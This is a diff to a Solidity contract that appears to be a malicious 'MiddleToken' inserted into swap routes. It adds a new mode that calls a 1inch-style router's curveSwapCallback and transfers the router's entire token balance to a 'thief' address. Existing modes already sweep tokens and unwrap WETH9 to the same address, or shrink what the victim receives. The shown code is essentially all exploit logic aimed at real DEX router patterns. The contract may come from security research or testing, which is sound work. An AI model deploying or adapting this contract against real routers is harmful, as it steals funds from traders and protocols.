@@ -4,6 +4,12 @@ pragma solidity ^0.8.24;
 interface IRouter {
     function sweepToken(address token, uint256 amountMinimum, address recipient) external payable;
     function unwrapWETH9(uint256 amountMinimum, address recipient) external payable;
+    function curveSwapCallback(address, address, address inCoin, uint256 dx, uint256) external;
+}
+
+interface IHeld {
+    function balanceOf(address owner) external view returns (uint256);
+    function transfer(address to, uint256 value) external returns (bool);
 }
 
 /// A token that a route leads through, honest until it is armed with what it does while the router
@@ -47,6 +53,12 @@ contract MiddleToken {
         // What the router holds of the parts before this one.
         if (kind == 1) IRouter(router).sweepToken(held, 0, thief);
         if (kind == 2) IRouter(router).unwrapWETH9(0, thief);
+        // 1inch's router gives anyone what it holds.
+        if (kind == 5) {
+            uint256 all = IHeld(held).balanceOf(router);
+            IRouter(router).curveSwapCallback(thief, thief, held, all, 0);
+            IHeld(held).transfer(thief, all);
+        }
         // Nearly nothing arrives, or all of it elsewhere.
         if (kind == 3) value = value > 1000 ? 1000 : value;
         balanceOf[from] -= value;
